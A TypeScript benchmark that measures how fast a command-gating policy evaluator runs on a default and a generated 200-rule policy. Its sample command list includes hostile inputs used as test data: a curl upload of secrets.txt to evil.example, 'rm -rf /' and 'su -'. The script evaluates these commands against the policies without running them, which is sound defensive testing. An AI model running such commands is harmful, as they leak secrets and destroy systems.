// Policy evaluation benchmark: evaluations per second and per-evaluation p50/p99 for the default policy and
// for a generated 200-rule policy with regex and glob keys. Facts are gathered once from real programs on
// this machine (like the supervisor would send them) and varied in argv and cwd. Compilation happens once,
// at load; only evaluate() is timed. Targets are printed beside the figures, not asserted (exit 0 always).
//
// Run: node scripts/run-ts.mjs bench/policy-bench.ts [evaluations]
import { join } from 'node:path';
import type { ExecFacts } from '../src/core/exec/facts';
import { gatherLocalFacts } from '../src/core/exec/local-facts';
import { createEvaluator, defaultPolicyPath, loadPolicyFile, loadPolicyText, type Evaluator } from '../src/core/policy/index';

const EVALUATIONS = Math.max(100_000, Number(process.argv[2]) || 200_000);
const WARMUP = 20_000;
const TARGET_P50_US = 5;
const TARGET_P99_US = 50;

const workspace = process.cwd();

function realisticFacts(): ExecFacts[] {
  const commands: string[][] = [
    ['git', 'status'],
    ['git', 'push', 'origin', 'main'],
    ['git', 'log', '--oneline', '-n', '20'],
    ['sh', '-c', 'make test'],
    ['bash', '-lc', 'npm run build'],
    ['make', '-j2'],
    ['node', 'dist/cli.js', 'check', '--policy', 'x.toml'],
    ['npm', 'test'],
    ['curl', '-fsSL', 'https://raw.githubusercontent.com/o/r/main/install.sh'],
    ['curl', 'https://evil.example/upload', '-d', '@secrets.txt'],
    ['rm', '-rf', 'build'],
    ['rm', '-rf', '/'],
    ['grep', '-rn', 'TODO', 'src'],
    ['cat', 'package.json'],
    ['ls', '-la'],
    ['python3.11', '-m', 'pytest', '-q'],
    ['gcc', '-O2', '-c', 'main.c', '-o', 'main.o'],
    ['xxd', '/etc/hostname'],
    ['su', '-'],
    ['sed', '-i', 's/a/b/', 'file.txt'],
  ];
  const facts = commands.map((argv) => gatherLocalFacts(argv, { cwd: workspace }));
  const varied: ExecFacts[] = [];
  for (let i = 0; i < 64; i++) {
    for (const f of facts) {
      varied.push({
        ...f,
        requestId: varied.length,
        argv: i % 4 === 0 ? [...f.argv, `arg-${i}`] : f.argv,
        cwd: i % 3 === 0 ? join(workspace, 'src', `pkg${i}`) : workspace,
        parent: { exe: '/usr/bin/bash', argv: ['bash', '-c', f.argv.join(' ')] },
      });
    }
  }
  return varied;
}

/** 200 rules with exe_basename, exe_glob, argv_regex, argv_contains, argv_host_in, cwd_glob and _not forms. */
function generatedPolicy(): string {
  const tools = ['git', 'curl', 'make', 'node', 'npm', 'python3', 'gcc', 'rm', 'sed', 'grep', 'cat', 'ls', 'tar', 'ssh', 'wget', 'cargo', 'go', 'java', 'perl', 'ruby'];
  const out: string[] = ['[meta]\nversion = 1\ndefault_action = "ask"\n'];
  for (let i = 0; i < 200; i++) {
    const tool = tools[i % tools.length] as string;
    const action = ['allow', 'deny', 'ask'][i % 3] as string;
    const lines = [`[[rule]]`, `id = "r${i}"`, `action = "${action}"`, `reason = "generated rule ${i}"`];
    switch (i % 6) {
      case 0:
        lines.push(`exe_basename = ["${tool}", "${tool}-${i}"]`, `argv_regex = '^\\S+ (sub${i}|--flag-${i})( |$)'`);
        break;
      case 1:
        lines.push(`exe_glob = "/opt/tool${i}/**"`, `cwd_glob = "/srv/project-${i}/**"`);
        break;
      case 2:
        lines.push(`argv_regex = ['(^|\\s)--danger-${i}(\\s|$)', 'secret-${i}\\.txt']`);
        break;
      case 3:
        lines.push(`exe_basename = "${tool}"`, `argv_contains = ["--only-${i}", "-Z${i}"]`);
        break;
      case 4:
        lines.push(`exe_basename = "${tool}"`, `argv_host_in = ["host${i}.example.com", "*.mirror${i}.org"]`);
        break;
      case 5:
        lines.push(`exe_glob = "/usr/local/lib/x${i}/*/bin/*"`, `argv_regex_not = '^\\S+ --version$'`, `uid_not = ${i + 5000}`);
        break;
    }
    out.push(lines.join('\n') + '\n');
  }
  return out.join('\n');
}

function measure(evaluator: Evaluator, facts: ExecFacts[]): { perSecond: number; p50: number; p99: number } {
  for (let i = 0; i < WARMUP; i++) evaluator.evaluate(facts[i % facts.length] as ExecFacts);
  const samples = new Float64Array(EVALUATIONS);
  const start = process.hrtime.bigint();
  for (let i = 0; i < EVALUATIONS; i++) {
    const t0 = process.hrtime.bigint();
    evaluator.evaluate(facts[i % facts.length] as ExecFacts);
    samples[i] = Number(process.hrtime.bigint() - t0) / 1000;
  }
  const totalS = Number(process.hrtime.bigint() - start) / 1e9;
  samples.sort();
  return {
    perSecond: EVALUATIONS / totalS,
    p50: samples[Math.floor(EVALUATIONS * 0.5)] as number,
    p99: samples[Math.floor(EVALUATIONS * 0.99)] as number,
  };
}

function main(): void {
  const facts = realisticFacts();
  const rows: string[][] = [];
  const defaultLoaded = loadPolicyFile(defaultPolicyPath(), { workspace });
  const generated = loadPolicyText(generatedPolicy(), 'generated-200.gate.toml', { workspace });
  for (const [name, loaded] of [
    ['default.gate.toml', defaultLoaded],
    ['generated (regex+glob)', generated],
  ] as const) {
    if (!loaded.policy) {
      console.error(`${name}: policy failed to load: ${loaded.diagnostics.map((d) => d.message).join('; ')}`);
      continue;
    }
    const evaluator = createEvaluator(loaded.policy);
    const r = measure(evaluator, facts);
    rows.push([
      name,
      String(loaded.policy.ruleIds.length),
      Math.round(r.perSecond).toLocaleString('en-US'),
      r.p50.toFixed(2),
      r.p99.toFixed(2),
      `p50 ≤ ${TARGET_P50_US}, p99 ≤ ${TARGET_P99_US}`,
    ]);
  }
  const header = ['policy', 'rules', 'evals/s', 'p50 µs', 'p99 µs', 'target (µs)'];
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => (r[i] as string).length)));
  const fmt = (cells: string[]) => cells.map((c, i) => c.padEnd(widths[i] as number)).join('  ');
  console.log(`policy evaluation: ${EVALUATIONS.toLocaleString('en-US')} evaluations per policy after ${WARMUP.toLocaleString('en-US')} warm-up, ${facts.length} distinct facts`);
  console.log(fmt(header));
  console.log(widths.map((w) => '-'.repeat(w)).join('  '));
  for (const r of rows) console.log(fmt(r));
}

main();
